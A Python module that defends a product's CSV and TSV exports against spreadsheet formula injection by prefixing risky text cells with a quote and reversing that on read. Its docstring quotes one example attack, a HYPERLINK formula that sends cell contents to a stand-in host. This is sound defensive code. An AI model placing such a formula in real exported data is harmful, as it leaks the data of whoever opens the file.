"""Text cells of every CSV and TSV the product writes, made safe to open in a spreadsheet (OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets run a cell that begins with '=', '+', '-' or '@' (and, in some, a tab or a
carriage return) as a formula: a case label `=HYPERLINK("http://x/?"&A1, "see")` would send the table away when
a clinician opens it. OWASP's rule is applied to each text cell: such a cell gets a single quote in front, which a
spreadsheet shows as text and does not display. Numbers stay numbers ('-5', '+1.5', '-2e-3' are not touched), and
so does every other cell.

So that the quote can be taken off again exactly (`formula_unescape`, used by the cBioPortal reader), a cell that
already begins with quotes followed by one of those characters ("'=x") gets one quote more ("''=x"): reading drops
one quote from any cell that begins with quotes and then one of them, and gives back the text as written.
"""

from __future__ import annotations

import csv
import re

import pandas as pd

FORMULA_STARTS = "=+-@\t\r"
_ESCAPED_IF = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'(?='*[=+\-@\t\r])")  # the one quote formula_escape added
_FIRST = tuple("'" + FORMULA_STARTS)  # a cell starting otherwise is written as it is (most cells: one test)
_NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")


def formula_escape(text: str) -> str:
    """A text cell as it is written: a quote in front when a spreadsheet would run it as a formula.

    >>> formula_escape("=1+1"), formula_escape("-5"), formula_escape("-5 mm"), formula_escape("PR")
    ("'=1+1", '-5', "'-5 mm", 'PR')
    """
    if text[:1] in _FIRST and _ESCAPED_IF.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def formula_unescape(text: str) -> str:
    """A cell as read back: the quote `formula_escape` adds taken off again (also another writer's OWASP quote).

    >>> formula_unescape("'=1+1"), formula_unescape("''=x"), formula_unescape("'quoted'")
    ('=1+1', "'=x", "'quoted'")
    """
    return text[1:] if _ESCAPED.match(text) else text


def formula_unescape_cells(cells: pd.Series) -> pd.Series:
    """`formula_unescape` of every cell of a column of text; only the cells that begin with a quote are looked at
    (a regular expression over two million cells takes seconds, a test of their first character a tenth)."""
    quoted = cells.str.startswith("'")
    if not quoted.any():
        return cells
    cells = cells.copy()
    cells[quoted] = cells[quoted].str.replace(_ESCAPED, "", n=1, regex=True)
    return cells


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of a table with every text cell and column name passed through `formula_escape` (numbers and blanks
    as they are): a column named after an attribute ('=cmd') is a cell of the header row to a spreadsheet."""
    safe = frame.copy()
    for i in range(safe.shape[1]):
        values = safe.iloc[:, i]
        if not (pd.api.types.is_numeric_dtype(values) or pd.api.types.is_datetime64_any_dtype(values)):
            safe.isetitem(i, values.astype(object).map(lambda cell: formula_escape(cell) if isinstance(cell, str)
                                                       else cell))
    safe.columns = safe_header(safe.columns)
    return safe


def safe_header(columns) -> list:
    """Column names as a header row writes them: each text name through `formula_escape`."""
    return [formula_escape(c) if isinstance(c, str) else c for c in columns]


def csv_text(frame: pd.DataFrame) -> str:
    """A table as CSV text, its text cells safe to open in a spreadsheet (the one CSV writer of the product).

    Python's csv writer quotes a cell holding a line feed but not one holding a lone carriage return, which a
    spreadsheet takes for the end of a row: a table with such a cell has every text cell quoted."""
    safe = safe_frame(frame)
    carriage_return = any(isinstance(cell, str) and "\r" in cell for i in range(safe.shape[1])
                          if not pd.api.types.is_numeric_dtype(safe.iloc[:, i]) for cell in safe.iloc[:, i]) \
        or any(isinstance(c, str) and "\r" in c for c in safe.columns)
    return safe.to_csv(index=False, lineterminator="\n",
                       quoting=csv.QUOTE_NONNUMERIC if carriage_return else csv.QUOTE_MINIMAL)
